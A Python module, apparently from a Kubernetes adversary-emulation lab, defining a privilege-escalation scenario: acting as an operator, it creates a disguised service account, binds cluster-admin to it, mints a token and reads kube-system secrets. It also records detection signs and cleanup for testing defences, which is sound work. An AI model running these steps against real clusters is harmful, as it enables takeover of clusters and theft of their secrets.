"""Attack: cluster-admin bound to an account of the attacker.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="cluster-admin-binding",
    title="Cluster-admin bound to an account of the attacker",
    technique=base.Technique(id="T1098.006", name="Additional Container Cluster Roles", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Creates a service account with a plain name, binds cluster-admin to it through an operator that may "
        "bind, mints a token and reads secrets with it."
    ),
    seen_by=(
        "A binding to cluster-admin written by an operator that never bound it; a new account that at once "
        "reads secrets."
    ),
    cleans_up="Binding and account are deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    catalogues=(
        "Microsoft: Cluster-admin binding",
        "stratus:k8s.persistence.create-admin-clusterrole",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("POST", paths.group(paths.RBAC, "clusterrolebindings")))
    thief = ctx.act_as(victim)
    name = ctx.name("metrics-agent")
    account = paths.core("serviceaccounts", victim.namespace)
    ctx.remove_later(f"{account}/{name}", paths.group(paths.RBAC, "clusterrolebindings", "", name))
    yield thief.create(account, {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name}})
    binding = {
        "apiVersion": paths.RBAC,
        "kind": "ClusterRoleBinding",
        "metadata": {"name": name},
        "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": victim.namespace}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    }
    yield thief.create(paths.group(paths.RBAC, "clusterrolebindings"), binding)
    request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    answer = yield thief.create(f"{account}/{name}/token", request)
    newcomer = ctx.minted(
        victim,
        answer.at("status", "token"),
        username=f"system:serviceaccount:{victim.namespace}:{name}",
    )
    ghost = ctx.act_as(newcomer)
    yield ghost.get(paths.core("secrets", "kube-system"), {"limit": 500})


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
